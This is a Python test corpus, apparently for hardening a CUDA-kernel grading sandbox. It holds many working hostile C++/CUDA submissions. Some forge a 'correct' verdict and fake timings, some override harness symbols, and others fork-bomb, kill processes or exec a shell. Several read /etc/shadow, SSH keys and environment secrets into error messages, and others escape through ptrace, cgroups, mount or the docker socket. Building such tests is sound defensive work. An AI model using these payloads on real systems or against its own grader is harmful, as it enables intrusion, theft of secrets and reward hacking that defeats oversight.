"""Attacks on the judge and its machine, by an author who had not read the judge.

Where an attack could also compute the right answer it does not: what it tries is its only way to
`correct`, so that a harmless refusal by the sandbox cannot be mistaken for a hole.
"""

# ruff: noqa: E501 - kernels stay on the lines on which their authors would write them

from __future__ import annotations

from coding_framework.types import Status
from corpus.records import (
    AFFINE,
    AFFINE_KERNEL,
    AFFINE_LAUNCH,
    BOMB,
    FAULT,
    NEVER_CORRECT,
    RULED_OUT,
    STALE,
    Attack,
    source,
)

_HEAD = """#include <atomic>
#include <cerrno>
#include <chrono>
#include <csetjmp>
#include <csignal>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <dirent.h>
#include <dlfcn.h>
#include <fcntl.h>
#include <fstream>
#include <iostream>
#include <poll.h>
#include <sstream>
#include <stdexcept>
#include <string>
#include <thread>
#include <vector>
#include <arpa/inet.h>
#include <netinet/in.h>
#include <sched.h>
#include <sys/ipc.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/shm.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/time.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>
"""
_VERDICT = '{\\"status\\": \\"correct\\", \\"reason\\": \\"ok\\", \\"tests\\": [], \\"timing\\": {\\"kernel_ms\\": 0.001, \\"speedup\\": 100.0}}'
_DIES = FAULT | frozenset({Status.LOAD_ERROR, Status.REJECTED, Status.COMPILE_ERROR})
_ANY = NEVER_CORRECT - {Status.UNSUPPORTED}
_GARBLED = STALE | _DIES | BOMB


def _do(
    name: str,
    covers: str,
    body: str,
    *,
    globals_: str = "",
    tail: str = "",
    statuses: frozenset[Status] = _GARBLED,
) -> Attack:
    """`body` runs in forward, which then returns an output that nobody has written."""
    return Attack(
        name, covers, source(globals_, body, head=_HEAD, tail=tail), AFFINE, statuses, "unseen"
    )


_FORGERY = (
    _do(
        "verdict_on_stdout",
        "writing the verdict or result channel",
        f'puts("{_VERDICT}"); fflush(stdout);',
    ),
    _do(
        "verdict_on_stdout_and_exit",
        "writing the verdict or result channel",
        f'puts("{_VERDICT}"); fflush(stdout); _exit(0);',
    ),
    _do(
        "verdict_on_every_descriptor",
        "writing the verdict or result channel",
        f'const char* v = "{_VERDICT}\\n"; for (int fd = 0; fd < 1024; fd++) {{ fcntl(fd, F_SETFL, O_NONBLOCK); if (write(fd, v, strlen(v)) < 0) continue; }} _exit(0);',
    ),
    _do(
        "noise_on_every_descriptor",
        "writing the verdict or result channel",
        "std::string junk(70000, char(0xff)); for (int fd = 3; fd < 256; fd++) { fcntl(fd, F_SETFL, O_NONBLOCK); if (write(fd, junk.data(), junk.size()) < 0) continue; }",
    ),
    _do(
        "length_prefixed_noise",
        "writing the verdict or result channel",
        "for (int fd = 3; fd < 256; fd++) { unsigned long long big = ~0ull >> 1; fcntl(fd, F_SETFL, O_NONBLOCK); for (int i = 0; i < 64; i++) if (write(fd, &big, 8) < 0) break; }",
    ),
    _do(
        "zero_length_messages",
        "writing the verdict or result channel",
        "for (int fd = 3; fd < 64; fd++) { unsigned z = 0; fcntl(fd, F_SETFL, O_NONBLOCK); for (int i = 0; i < 5000; i++) if (write(fd, &z, 4) < 0) break; }",
    ),
    _do(
        "eats_the_channel",
        "writing the verdict or result channel",
        "char b[65536]; for (int fd = 3; fd < 64; fd++) { fcntl(fd, F_SETFL, O_NONBLOCK); while (read(fd, b, sizeof b) > 0) {} }",
    ),
    _do(
        "closes_everything",
        "writing the verdict or result channel",
        "for (int fd = 0; fd < 4096; fd++) close(fd);",
    ),
    _do(
        "replaces_descriptors",
        "writing the verdict or result channel",
        'int z = open("/dev/null", O_RDWR); for (int fd = 3; fd < 64; fd++) dup2(z, fd);',
    ),
    _do(
        "shuts_sockets_down",
        "writing the verdict or result channel",
        "for (int fd = 0; fd < 64; fd++) shutdown(fd, SHUT_RDWR);",
    ),
    _do(
        "hands_descriptors_to_a_child",
        "writing the verdict or result channel",
        f'if (fork() == 0) {{ sleep(1); const char* v = "{_VERDICT}\\n"; for (int fd = 0; fd < 64; fd++) if (write(fd, v, strlen(v)) < 0) continue; _exit(0); }} _exit(0);',
    ),
    _do(
        "maps_and_writes_shared_memory",
        "writing the verdict or result channel",
        "for (int fd = 3; fd < 64; fd++) { void* p = mmap(nullptr, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0); if (p != MAP_FAILED) memset(p, 0x01, 4096); }",
    ),
    _do(
        "truncates_what_it_can",
        "writing the verdict or result channel",
        "for (int fd = 0; fd < 64; fd++) if (ftruncate(fd, 0)) continue;",
    ),
    _do("exit_zero_in_forward", "static constructors that exit 0", "exit(0);"),
    _do("quick_exit_in_forward", "static constructors that exit 0", "quick_exit(0);"),
    _do(
        "exit_zero_in_a_constructor",
        "static constructors that exit 0",
        AFFINE_LAUNCH,
        globals_=AFFINE_KERNEL + "__attribute__((constructor)) static void first() { _exit(0); }\n",
    ),
    _do(
        "forged_verdict_in_a_constructor",
        "static constructors that exit 0",
        AFFINE_LAUNCH,
        globals_=AFFINE_KERNEL
        + f'struct Early {{ Early() {{ puts("{_VERDICT}"); fflush(stdout); _exit(0); }} }} early;\n',
    ),
    _do(
        "exit_zero_in_init_array",
        "static constructors that exit 0",
        AFFINE_LAUNCH,
        globals_=AFFINE_KERNEL
        + 'static void first(int, char**, char**) { _exit(0); }\n__attribute__((section(".init_array"), used)) static void (*hook)(int, char**, char**) = first;\n',
    ),
    _do(
        "exit_zero_in_the_module_body",
        "static constructors that exit 0",
        AFFINE_LAUNCH,
        globals_=AFFINE_KERNEL,
        tail="_exit(0);",
    ),
    _do(
        "exit_zero_in_an_ifunc",
        "static constructors that exit 0",
        "chosen();",
        globals_='extern "C" { static void plain() {} void (*pick(void))(void) { _exit(0); return plain; } void chosen() __attribute__((ifunc("pick"))); }\n',
        statuses=_GARBLED | RULED_OUT,
    ),
)

_SYMBOLS = tuple(
    _do(
        f"own_{name}",
        "GOT patches and symbols that override the harness",
        body,
        globals_=globals_,
        statuses=_GARBLED | RULED_OUT,
    )
    for name, globals_, body in (
        (
            "cudaMalloc",
            'extern "C" cudaError_t cudaMalloc(void** p, size_t n) { *p = malloc(n); return cudaSuccess; }\n',
            "void* p; cudaMalloc(&p, 64);",
        ),
        (
            "cudaLaunchKernel",
            'extern "C" cudaError_t cudaLaunchKernel(const void*, dim3, dim3, void**, size_t, cudaStream_t) { return cudaSuccess; }\n'
            'extern "C" cudaError_t __cudaLaunchKernel(cudaKernel_t, dim3, dim3, void**, size_t, cudaStream_t) { return cudaSuccess; }\n'
            + AFFINE_KERNEL,
            AFFINE_LAUNCH,
        ),
        (
            "cudaMemcpy",
            'extern "C" cudaError_t cudaMemcpy(void* d, const void* s, size_t n, cudaMemcpyKind) { memset(d, 0, n); return cudaSuccess; }\n',
            "float f; cudaMemcpy(&f, px, 4, cudaMemcpyDeviceToHost);",
        ),
        (
            "write",
            'extern "C" ssize_t write(int fd, const void*, size_t n) { return n; }\n',
            "std::vector<float> z(n, 1.0f); cudaMemcpy(po, z.data(), n * 4, cudaMemcpyHostToDevice);",
        ),
        (
            "send",
            'extern "C" ssize_t send(int, const void*, size_t n, int) { return n; }\nextern "C" ssize_t sendmsg(int, const msghdr*, int) { return 64; }\n',
            "cudaMemset(po, 0, n * 4);",
        ),
        (
            "read",
            'extern "C" ssize_t read(int, void* p, size_t n) { memset(p, 0, n); return n; }\nextern "C" ssize_t recv(int, void* p, size_t n, int) { memset(p, 0, n); return n; }\n',
            "cudaMemset(po, 0, n * 4);",
        ),
        (
            "malloc",
            'extern "C" void* malloc(size_t n) { static char pool[1 << 26]; static size_t at; size_t a = at; at += (n + 63) & ~size_t(63); return pool + a % (1 << 25); }\nextern "C" void free(void*) {}\n',
            "cudaMemset(po, 0, n * 4);",
        ),
        (
            "memcpy",
            'extern "C" void* memcpy(void* d, const void*, size_t) { return d; }\n',
            "cudaMemset(po, 0, n * 4);",
        ),
        (
            "operator_new",
            "void* operator new(std::size_t n) { static char p[1 << 20]; return p + (n & 63); }\nvoid operator delete(void*) noexcept {}\nvoid operator delete(void*, std::size_t) noexcept {}\n",
            "std::vector<int> v(1000); std::vector<int> w(1000); v[0] = w[0];",
        ),
        ("main", "int main(int, char**) { _exit(0); }\n", "cudaMemset(po, 0, n * 4);"),
        (
            "clock_gettime",
            'extern "C" int clock_gettime(clockid_t, timespec* t) { t->tv_sec = 0; t->tv_nsec = 0; return 0; }\nextern "C" int gettimeofday(timeval* t, void*) { t->tv_sec = 0; t->tv_usec = 0; return 0; }\n',
            "cudaMemset(po, 0, n * 4);",
        ),
        (
            "events",
            'extern "C" cudaError_t cudaEventElapsedTime(float* ms, cudaEvent_t, cudaEvent_t) { *ms = 0; return cudaSuccess; }\nextern "C" cudaError_t cudaDeviceSynchronize() { return cudaSuccess; }\n',
            "cudaMemset(po, 0, n * 4);",
        ),
        (
            "abort",
            'extern "C" void abort() { _exit(0); }\nextern "C" void __assert_fail(const char*, const char*, unsigned, const char*) { _exit(0); }\nextern "C" void __stack_chk_fail() { _exit(0); }\n',
            "abort();",
        ),
    )
)

_SIGNALS = (
    _do(
        "survives_its_own_fault",
        "signal handlers",
        "signal(SIGSEGV, back); if (sigsetjmp(jump, 1) == 0) *(volatile int*)8 = 1;",
        globals_="static sigjmp_buf jump;\nstatic void back(int) { siglongjmp(jump, 1); }\n",
    ),
    _do(
        "exits_zero_on_its_fault",
        "signal handlers",
        "signal(SIGSEGV, [](int) { _exit(0); }); *(volatile int*)8 = 1;",
    ),
    _do(
        "ignores_sigterm_and_spins",
        "ignored SIGTERM",
        "for (int s = 1; s < 65; s++) signal(s, SIG_IGN); for (volatile long i = 0;; i = i + 1) {}",
        statuses=BOMB,
    ),
    _do(
        "blocks_all_signals_and_sleeps",
        "ignored SIGTERM",
        "sigset_t all; sigfillset(&all); sigprocmask(SIG_BLOCK, &all, nullptr); for (;;) sleep(1000);",
        statuses=BOMB,
    ),
    _do("stops_itself", "ignored SIGTERM", "raise(SIGSTOP);", statuses=_GARBLED),
    _do("kills_its_parent", "kill(-1)", "kill(getppid(), SIGKILL); kill(getppid(), SIGSTOP);"),
    _do("kills_all", "kill(-1)", "kill(-1, SIGKILL);"),
    _do("kills_its_group", "kill(-1)", "kill(0, SIGKILL);"),
    _do(
        "kills_low_pids",
        "kill(-1)",
        "for (int p = 1; p < 64; p++) if (p != getpid()) kill(p, SIGKILL);",
    ),
    _do(
        "alarm_storm",
        "signal handlers",
        "signal(SIGALRM, [](int) {}); itimerval t{{0, 50}, {0, 50}}; setitimer(ITIMER_REAL, &t, nullptr);",
    ),
    _do(
        "sets_its_limits_up",
        "resource limits",
        "rlimit r{RLIM_INFINITY, RLIM_INFINITY}; for (int i = 0; i < 16; i++) setrlimit((__rlimit_resource)i, &r); for (volatile long i = 0;; i = i + 1) {}",
        statuses=BOMB,
    ),
    _do(
        "real_time_priority",
        "resource limits",
        "sched_param p{99}; sched_setscheduler(0, SCHED_FIFO, &p); for (volatile long i = 0;; i = i + 1) {}",
        statuses=BOMB,
    ),
)

_PROCESSES = (
    _do("fork_bomb", "fork floods", "for (;;) fork();", statuses=BOMB | STALE | _DIES),
    _do(
        "daemon_that_stays",
        "double fork, setsid",
        "if (fork() == 0) { setsid(); if (fork() == 0) { for (;;) sleep(100); } _exit(0); }",
    ),
    _do(
        "busy_daemon",
        "double fork, setsid",
        "if (fork() == 0) { setsid(); if (fork() == 0) { for (volatile long i = 0;; i = i + 1) {} } _exit(0); }",
    ),
    _do(
        "child_computes_and_parent_waits",
        "fork floods",
        "int s; if (fork() == 0) { cudaMemset(po, 0, n * 4); _exit(0); } wait(&s);",
    ),
    _do(
        "thread_flood",
        "thread floods",
        "std::vector<std::thread> all; for (int i = 0; i < 100000; i++) all.emplace_back([] { for (;;) sleep(100); });",
        statuses=BOMB | STALE | _DIES,
    ),
    _do(
        "threads_in_a_race_for_the_runtime",
        "thread floods; hostile RPC",
        "std::vector<std::thread> all; for (int t = 0; t < 8; t++) all.emplace_back([=] { for (int i = 0; i < 200; i++) { void* p = nullptr; cudaMalloc(&p, 256); cudaMemset(p, 0, 256); cudaFree(p); } }); for (auto& t : all) t.join();",
    ),
    _do(
        "vfork_and_stay",
        "fork floods",
        "if (vfork() == 0) { for (;;) sleep(100); }",
        statuses=BOMB | STALE | _DIES,
    ),
    _do(
        "exec_shell",
        "escape by exec",
        'execl("/bin/sh", "sh", "-c", "echo pwned; sleep 100", nullptr);',
    ),
    _do(
        "exec_itself_with_preload",
        "LD_PRELOAD for the next job",
        'setenv("LD_PRELOAD", "/tmp/evil.so", 1); execl("/proc/self/exe", "x", nullptr);',
    ),
    _do(
        "system_and_popen",
        "escape by exec",
        'if (system("touch /tmp/cuda_rl_was_here; (sleep 100 &)")) {} FILE* f = popen("id", "r"); if (f) { char b[99]; if (fgets(b, 99, f)) puts(b); }',
    ),
    _do(
        "memfd_exec",
        "escape by exec",
        'int fd = memfd_create("x", 0); std::ifstream sh("/bin/sh", std::ios::binary); std::stringstream s; s << sh.rdbuf(); std::string t = s.str(); if (write(fd, t.data(), t.size()) > 0) { char* a[] = {(char*)"sh", nullptr}; char* e[] = {nullptr}; fexecve(fd, a, e); }',
    ),
    _do(
        "ptrace_its_parent",
        "ptrace, /proc/self/mem",
        "ptrace(PTRACE_ATTACH, getppid(), 0, 0); ptrace(PTRACE_SEIZE, getppid(), 0, 0);",
    ),
    _do(
        "writes_its_parents_memory",
        "ptrace, /proc/self/mem",
        'for (int p = 1; p < 300; p++) { char f[64]; snprintf(f, 64, "/proc/%d/mem", p); int fd = open(f, O_RDWR); if (fd >= 0 && p != getpid()) { char z[64] = {}; if (pwrite(fd, z, 64, 0x400000) < 0) {} } }',
    ),
    _do(
        "process_vm_writev",
        "ptrace, /proc/self/mem",
        "char z[64] = {}; iovec l{z, 64}, r{(void*)0x400000, 64}; for (int p = 1; p < 300; p++) process_vm_writev(p, &l, 1, &r, 1, 0);",
    ),
    _do(
        "patches_its_own_code",
        "GOT patches",
        'void* f = dlsym(RTLD_DEFAULT, "cudaLaunchKernel"); if (!f) return out; long page = (long)f & ~4095l; mprotect((void*)page, 8192, PROT_READ | PROT_WRITE | PROT_EXEC); memset(f, 0xc3, 16);',
        statuses=_GARBLED | RULED_OUT,
    ),
    _do(
        "patches_the_runtime_by_self_mem",
        "ptrace, /proc/self/mem; GOT patches",
        'int fd = open("/proc/self/mem", O_RDWR); void* f = dlsym(RTLD_DEFAULT, "cudaMemcpy"); unsigned char code[] = {0x31, 0xc0, 0xc3}; if (f && fd >= 0 && pwrite(fd, code, 3, (long)f) < 0) {} cudaMemcpy(po, px, n * 4, cudaMemcpyDeviceToDevice);',
    ),
    _do(
        "walks_the_stack_for_secrets",
        "frame walks; heap or stack theft",
        'volatile char* p = (volatile char*)__builtin_frame_address(0); long sum = 0; for (long i = 0; i < (1 << 24); i++) sum += p[i]; if (sum == 42) puts("x");',
    ),
    _do(
        "scans_the_heap_for_answers",
        "scanning memory for the expected output",
        'std::ifstream maps("/proc/self/maps"); std::string line; long found = 0; while (std::getline(maps, line)) { unsigned long a, b; char r; if (sscanf(line.c_str(), "%lx-%lx %c", &a, &b, &r) == 3 && r == \'r\' && line.find("[vv") == line.npos && line.find("[vsys") == line.npos) for (unsigned long p = a; p + 4 <= b && p < a + (1 << 20); p += 4) { float v; memcpy(&v, (void*)p, 4); if (v == 3.0f) found++; } } cudaMemset(po, found ? 0 : 1, n * 4);',
    ),
    _do(
        "goes_on_after_return",
        "work on a side stream or thread",
        "std::thread([] { for (;;) { void* p = nullptr; cudaMalloc(&p, 1024); } }).detach();",
    ),
)

_FLOODS = (
    _do(
        "host_memory_bomb",
        "memory floods",
        "std::vector<char*> all; for (;;) { char* p = (char*)malloc(1 << 26); if (!p) continue; memset(p, 1, 1 << 26); all.push_back(p); }",
        statuses=BOMB,
    ),
    _do(
        "mmap_bomb",
        "memory floods",
        "for (long i = 0;; i++) { char* p = (char*)mmap(nullptr, 1l << 30, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0); if (p == MAP_FAILED) break; for (long j = 0; j < (1l << 30); j += 4096) p[j] = 1; }",
        statuses=BOMB | STALE,
    ),
    _do(
        "shared_memory_bomb",
        "memory floods",
        'int fd = memfd_create("x", 0); std::string mb(1 << 20, 1); for (;;) if (write(fd, mb.data(), mb.size()) <= 0) break;',
        statuses=BOMB | STALE | _DIES,
    ),
    _do(
        "stack_bomb",
        "memory floods",
        "deep(1);",
        globals_="static volatile int sink;\n__attribute__((noinline)) static int deep(int n) { volatile char b[4096]; b[0] = n; sink = b[0]; return deep(n + 1) + b[0]; }\n",
        statuses=BOMB | _DIES,
    ),
    _do(
        "device_memory_too_big",
        "VRAM hogs",
        "void* p = nullptr; cudaMalloc(&p, 1ull << 50); cudaMemset(p, 0, 64);",
        statuses=_GARBLED,
    ),
    _do(
        "device_memory_hog",
        "VRAM hogs",
        "for (int i = 0; i < 100000; i++) { void* p = nullptr; if (cudaMalloc(&p, 64 << 20) != cudaSuccess) break; cudaMemset(p, 1, 64 << 20); }",
        statuses=_GARBLED,
    ),
    _do(
        "tensor_hog",
        "VRAM hogs",
        "std::vector<torch::Tensor> all; for (int i = 0; i < 4096; i++) all.push_back(torch::zeros({1 << 28}, x.options()));",
        statuses=_GARBLED,
    ),
    _do(
        "negative_tensor",
        "VRAM hogs",
        "return torch::empty({-5, 7}, x.options());",
        statuses=_GARBLED,
    ),
    _do(
        "overflowing_tensor",
        "VRAM hogs",
        "return torch::empty({1ll << 32, 1ll << 32, 1ll << 3}, x.options());",
        statuses=_GARBLED,
    ),
    _do(
        "pinned_memory_hog",
        "pinned-memory hogs",
        "for (;;) { void* p = nullptr; if (cudaMallocHost(&p, 256 << 20) != cudaSuccess || !p) break; memset(p, 1, 256 << 20); }",
        statuses=_GARBLED | RULED_OUT,
    ),
    _do(
        "descriptor_flood",
        "fd floods",
        'while (open("/dev/null", O_RDONLY) >= 0) {} int p[2]; while (pipe(p) == 0) {}',
    ),
    _do(
        "disk_flood",
        "disk floods",
        'for (const char* d : {"/tmp/f", "/var/tmp/f", "/dev/shm/f", "./f", "/f"}) { int fd = open(d, O_CREAT | O_WRONLY, 0600); std::string mb(1 << 20, 1); for (int i = 0; fd >= 0 && i < 20000; i++) if (write(fd, mb.data(), mb.size()) <= 0) break; }',
        statuses=_GARBLED,
    ),
    _do(
        "inode_flood",
        "inode floods",
        'for (long i = 0; i < 2000000; i++) { char f[64]; snprintf(f, 64, "/tmp/i%ld", i); int fd = open(f, O_CREAT | O_WRONLY, 0600); if (fd < 0) break; close(fd); }',
        statuses=_GARBLED,
    ),
    _do(
        "stdout_flood",
        "output floods",
        "std::string mb(1 << 20, 'x'); for (int i = 0; i < 100000; i++) fwrite(mb.data(), 1, mb.size(), stdout);",
        statuses=_GARBLED,
    ),
    _do(
        "stderr_flood",
        "output floods",
        "std::string mb(1 << 20, 'x'); for (;;) std::cerr << mb;",
        statuses=_GARBLED,
    ),
    _do(
        "long_exception",
        "output floods",
        "throw std::runtime_error(std::string(1 << 28, 'x'));",
        statuses=_GARBLED,
    ),
    _do(
        "endless_host_loop",
        "infinite loops",
        "for (volatile long i = 0;; i = i + 1) {}",
        statuses=BOMB,
    ),
    _do(
        "sleeps_for_ever", "infinite loops", "for (;;) pause();", statuses=BOMB | {Status.REJECTED}
    ),
    _do(
        "loop_in_a_constructor",
        "infinite loops",
        AFFINE_LAUNCH,
        globals_=AFFINE_KERNEL
        + "__attribute__((constructor)) static void first() { for (volatile long i = 0;; i = i + 1) {} }\n",
        statuses=BOMB | _DIES,
    ),
    _do(
        "loop_in_a_destructor",
        "infinite loops",
        f"static Last last; {AFFINE_LAUNCH} cudaMemset(po, 0, n * 4);",
        globals_=AFFINE_KERNEL
        + "struct Last { ~Last() { for (volatile long i = 0;; i = i + 1) {} } };\n",
        statuses=_GARBLED,
    ),
    _do(
        "deadlocked_mutex",
        "infinite loops",
        "static std::atomic_flag f; while (f.test_and_set()) std::this_thread::yield(); while (f.test_and_set()) std::this_thread::yield();",
        statuses=BOMB,
    ),
    _do(
        "sysv_segments",
        "shared-memory segments left behind",
        "for (int i = 0; i < 64; i++) shmget(IPC_PRIVATE, 1 << 20, IPC_CREAT | 0666);",
    ),
    _do(
        "posix_shared_memory",
        "shared-memory segments left behind",
        'int fd = shm_open("/cuda_rl_attack", O_CREAT | O_RDWR, 0666); if (fd >= 0 && ftruncate(fd, 1 << 20) == 0) cudaMemset(po, 0, n * 4);',
    ),
)

_FILES = (
    _do(
        "passwd_in_the_error",
        "includes of /etc/passwd (leak through the error text)",
        'std::ifstream f("/etc/passwd"); std::stringstream s; s << f.rdbuf(); throw std::runtime_error("content: " + s.str());',
    ),
    _do(
        "shadow_and_keys_in_the_error",
        "leak through the error text",
        'for (const char* p : {"/etc/shadow", "/root/.ssh/id_rsa", "/root/.netrc", "/root/.bash_history"}) { std::ifstream f(p); std::stringstream s; s << f.rdbuf(); if (!s.str().empty()) throw std::runtime_error(s.str()); }',
    ),
    _do(
        "environment_in_the_error",
        "leak through the error text",
        'extern char** environ; std::string s; for (char** e = environ; *e; e++) s += *e, s += "\\n"; TORCH_CHECK(false, s);',
    ),
    _do(
        "command_lines_in_the_error",
        "/proc",
        'std::string all; for (int p = 1; p < 400; p++) { std::ifstream f("/proc/" + std::to_string(p) + "/cmdline"); std::stringstream s; s << f.rdbuf(); all += s.str(); } throw std::runtime_error(all);',
    ),
    _do(
        "seed_from_the_judges_environment",
        "/proc",
        'std::ifstream f("/proc/" + std::to_string(getppid()) + "/environ"); std::stringstream s; s << f.rdbuf(); throw std::runtime_error("env " + s.str());',
    ),
    _do(
        "lists_the_disk",
        "/proc",
        'std::string all; for (const char* d : {"/", "/root", "/home", "/work", "/tmp"}) { DIR* h = opendir(d); if (!h) continue; while (dirent* e = readdir(h)) all += e->d_name, all += " "; closedir(h); } cudaMemset(po, (int)all.size(), n * 4);',
    ),
    _do(
        "writes_next_to_the_judge",
        "cache poisoning for the next job",
        'for (const char* p : {"/usr/include/torch/extension.h", "./device.ptx", "./host.so", "../host.so", "/tmp/host.so", "/etc/ld.so.preload"}) { int fd = open(p, O_CREAT | O_WRONLY | O_TRUNC, 0666); if (fd >= 0 && write(fd, "x", 1) < 0) {} }',
    ),
    _do(
        "poisons_its_own_build_folder",
        "cache poisoning for the next job",
        'Dl_info i; if (dladdr((void*)&forward_marker, &i)) { unlink(i.dli_fname); int fd = open(i.dli_fname, O_CREAT | O_WRONLY | O_TRUNC, 0777); if (fd >= 0 && write(fd, "bad", 3) < 0) {} chmod(i.dli_fname, 0); }',
        globals_="void forward_marker() {}\n",
    ),
    _do(
        "symlinks_as_outputs",
        "symlinks, FIFOs and devices as outputs",
        'for (const char* p : {"out", "output", "result", "verdict.json", "stdout"}) { unlink(p); if (symlink("/etc/passwd", p)) {} if (mkfifo((std::string(p) + ".fifo").c_str(), 0666)) {} if (mknod((std::string(p) + ".dev").c_str(), S_IFCHR | 0666, 0x0108)) {} }',
    ),
    _do(
        "opens_raw_devices",
        "/dev",
        'for (const char* p : {"/dev/mem", "/dev/kmsg", "/dev/sda", "/dev/nvidia0", "/dev/nvidiactl", "/dev/kvm", "/dev/fuse"}) { int fd = open(p, O_RDWR); if (fd >= 0 && write(fd, "x", 1) < 0) {} }',
    ),
    _do(
        "core_pattern",
        "/proc",
        'int fd = open("/proc/sys/kernel/core_pattern", O_WRONLY); if (fd >= 0 && write(fd, "|/tmp/x", 7) < 0) {} fd = open("/proc/sys/vm/drop_caches", O_WRONLY); if (fd >= 0 && write(fd, "3", 1) < 0) {} fd = open("/proc/self/oom_score_adj", O_WRONLY); if (fd >= 0 && write(fd, "-1000", 5) < 0) {}',
    ),
    _do(
        "cgroup_escape",
        "/proc",
        'mkdir("/sys/fs/cgroup/x", 0755); std::ofstream("/sys/fs/cgroup/x/cgroup.procs") << getpid(); std::ofstream("/sys/fs/cgroup/memory.max") << "max";',
    ),
)

_KERNEL_SURFACE = tuple(
    _do(f"syscall_{name}", covers, body)
    for name, covers, body in (
        (
            "mount",
            "escape by mount",
            'if (mount("none", "/tmp", "tmpfs", 0, nullptr) == 0) cudaMemset(po, 0, n * 4); umount2("/proc", MNT_DETACH); if (chroot("/tmp")) {}',
        ),
        (
            "unshare",
            "escape by namespaces",
            "unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWPID); setns(3, 0);",
        ),
        (
            "bpf",
            "kernel surface",
            "syscall(SYS_bpf, 0, 0, 0); syscall(SYS_perf_event_open, 0, 0, 0, 0, 0); syscall(SYS_userfaultfd, 0);",
        ),
        (
            "io_uring",
            "kernel surface",
            "char p[256] = {}; syscall(425, 8, p); syscall(426, 0, 0, 0, 0, 0, 0);",
        ),
        (
            "keyring",
            "kernel surface",
            'syscall(SYS_add_key, "user", "x", "y", 1, -3); syscall(SYS_keyctl, 0, -3, 0); syscall(SYS_request_key, "user", "x", 0, -3);',
        ),
        (
            "module",
            "kernel surface",
            'syscall(SYS_init_module, 0, 0, ""); syscall(SYS_kexec_load, 0, 0, 0, 0); syscall(SYS_reboot, 0, 0, 0, 0);',
        ),
        (
            "seccomp",
            "kernel surface",
            'prctl(PR_SET_SECCOMP, 0, 0, 0, 0); prctl(PR_SET_DUMPABLE, 1); prctl(PR_SET_PTRACER, -1); prctl(PR_SET_NAME, "init");',
        ),
        (
            "thirty_two_bit",
            "kernel surface",
            'long r; asm volatile("int $0x80" : "=a"(r) : "a"(2) : "memory"); cudaMemset(po, r, n * 4);',
        ),
        ("x32", "kernel surface", "syscall(0x40000000 | 57);"),
        (
            "clone3",
            "fork floods",
            "struct { unsigned long v[11]; } a = {}; a.v[4] = SIGCHLD; if (syscall(435, &a, sizeof a) == 0) for (;;) sleep(100);",
        ),
        (
            "setuid",
            "kernel surface",
            'if (setuid(0) || setgid(0) || setresuid(0, 0, 0)) {} chmod("/bin/sh", 04755);',
        ),
        (
            "clock_settime",
            "patched timers",
            'timespec t{1, 0}; clock_settime(CLOCK_REALTIME, &t); timeval v{1, 0}; settimeofday(&v, nullptr); sethostname("x", 1);',
        ),
    )
)

_NETWORK = (
    _do(
        "connects_out",
        "network",
        'int s = socket(AF_INET, SOCK_STREAM, 0); sockaddr_in a{}; a.sin_family = AF_INET; a.sin_port = htons(53); inet_pton(AF_INET, "8.8.8.8", &a.sin_addr); if (connect(s, (sockaddr*)&a, sizeof a) == 0) cudaMemset(po, 0, n * 4);',
    ),
    _do(
        "scans_local_ports",
        "network",
        "for (int p = 1; p < 20000; p++) { int s = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0); if (s < 0) break; sockaddr_in a{}; a.sin_family = AF_INET; a.sin_port = htons(p); a.sin_addr.s_addr = htonl(INADDR_LOOPBACK); connect(s, (sockaddr*)&a, sizeof a); close(s); }",
    ),
    _do(
        "listens",
        "network",
        "int s = socket(AF_INET6, SOCK_STREAM, 0); sockaddr_in6 a{}; a.sin6_family = AF_INET6; a.sin6_port = htons(4444); if (bind(s, (sockaddr*)&a, sizeof a) == 0) listen(s, 5);",
    ),
    _do(
        "abstract_socket",
        "abstract sockets",
        'int s = socket(AF_UNIX, SOCK_STREAM, 0); sockaddr_un a{}; a.sun_family = AF_UNIX; memcpy(a.sun_path, "\\0cuda_rl", 8); if (bind(s, (sockaddr*)&a, sizeof a) == 0) listen(s, 5); memcpy(a.sun_path, "\\0/tmp/.X11-unix/X0", 18); connect(s, (sockaddr*)&a, sizeof a);',
    ),
    _do(
        "docker_socket",
        "network",
        'for (const char* p : {"/var/run/docker.sock", "/run/docker.sock", "/run/containerd/containerd.sock", "/run/dbus/system_bus_socket"}) { int s = socket(AF_UNIX, SOCK_STREAM, 0); sockaddr_un a{}; a.sun_family = AF_UNIX; strcpy(a.sun_path, p); if (connect(s, (sockaddr*)&a, sizeof a) == 0 && write(s, "GET /containers/json HTTP/1.0\\r\\n\\r\\n", 34) < 0) {} }',
    ),
    _do(
        "raw_and_netlink",
        "network",
        "socket(AF_PACKET, SOCK_RAW, 0x0300); socket(AF_INET, SOCK_RAW, 1); socket(AF_NETLINK, SOCK_RAW, 0); socket(38, SOCK_SEQPACKET, 0); socket(40, SOCK_STREAM, 0);",
    ),
    _do(
        "udp_packets",
        "network",
        'int s = socket(AF_INET, SOCK_DGRAM, 0); sockaddr_in a{}; a.sin_family = AF_INET; a.sin_port = htons(53); inet_pton(AF_INET, "1.1.1.1", &a.sin_addr); for (int i = 0; i < 100; i++) sendto(s, "x", 1, 0, (sockaddr*)&a, sizeof a);',
    ),
)

_DEVICE_HARM = tuple(
    Attack(name, covers, source(kernels, body), AFFINE, statuses, "unseen")
    for name, covers, kernels, body, statuses in (
        (
            "endless_kernel",
            "infinite kernels",
            "__global__ void k(float* o) { volatile float* v = o; while (v[0] != 12345.0f) {} }\n",
            "k<<<1, 1>>>(po);",
            BOMB,
        ),
        (
            "endless_kernel_without_memory",
            "infinite kernels",
            "__global__ void k(float* o) { unsigned i = 1; while (i) { i = i * 3; } o[0] = i; }\n",
            "k<<<1, 1>>>(po);",
            BOMB,
        ),
        (
            "spin_lock_in_a_warp",
            "grid-sync deadlocks",
            "__device__ int lock = 0;\n__global__ void k(float* o, int n) { while (atomicCAS(&lock, 0, 1) != 0) {} o[threadIdx.x] = 1; }\n",
            "k<<<1, 32>>>(po, n);",
            BOMB,
        ),
        (
            "blocks_wait_for_each_other",
            "grid-sync deadlocks",
